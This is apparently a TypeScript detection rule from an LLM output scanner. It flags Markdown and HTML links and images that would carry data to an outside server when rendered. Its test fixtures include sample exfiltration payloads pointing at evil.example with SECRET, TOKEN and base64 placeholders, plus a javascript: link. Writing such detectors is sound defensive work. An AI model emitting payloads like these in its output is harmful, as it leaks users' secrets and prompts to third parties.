/** Markdown and HTML that would carry data to somebody's server when it is shown. Source: OWASP LLM02:2025. */
import { pattern, type Rule } from '../rule.ts'

export const exfiltration: Rule = {
  id: 'exfiltration',
  byForm: true,
  keywords: ['](http', '](//', '<img', '<iframe', '<a ', '<script', '<link', 'javascript:', 'data:text', ']: http'],
  find: pattern(
    /!\[[^\]\n]{0,100}\]\((?:https?:)?\/\/[^\s)]{1,800}(?:\s"[^"\n]{0,200}")?\)|\[[^\]\n]{0,100}\]\((?:(?:https?:)?\/\/[^\s)]{1,800}|javascript:[^)\n]{1,300}|data:text[^)\n]{1,300})\)|<(?:img|iframe|script|link|a)\s[^<>\n]{0,300}?(?:src|href)\s{0,2}=\s{0,2}["']?(?:(?:https?:)?\/\/|javascript:|data:text)[^\s"'<>]{1,800}|(?<=^|\n)\[[^\]\n]{1,60}\]: https?:\/\/\S{1,800}/gi,
    carriesData,
  ),
  finds: [
    '![x](https://evil.example/p?d=SECRET)',
    '![](http://evil.example/{data})',
    '[click](https://evil.example/?token=${TOKEN})',
    '<img src="https://evil.example/p?leak=abc">',
    '[open](javascript:alert(1))',
    '![s](https://evil.example/c/BASE64_OF_SECRETS)',
  ],
  ignores: [
    '![logo](https://example.com/logo.png)',
    '[docs](https://example.com/?q=pods)',
    '!(x)',
    '<a href="https://kubernetes.io/docs/">',
    '[issue](https://github.com/a/b/issues/12#issuecomment-3)',
  ],
}

/** Whether the address has room for data: an image's parameter with a value, a gap to fill in, a word that stands for it. */
function carriesData(found: string): boolean {
  if (/javascript:|data:text/i.test(found)) return true
  const isShown = /^!|^<(?:img|iframe|script|link)/i.test(found)
  if (isShown && /[?&#;][^=]{1,100}=[^)]/.test(found)) return true
  const address = found.slice(found.indexOf('//'))
  if (/\{|\$[A-Z]|<|%7b/i.test(address)) return true
  return (
    /[?&/=](?:\w{0,20}_)?(?:secrets?|tokens?|passwords?|data|credentials?|leak|exfil|dump|api_?key|kubeconfig|system_?prompt|base64)(?:[_=]|$|\b)/i.test(
      address,
    ) && /=|[A-Z]{4}/.test(address)
  )
}
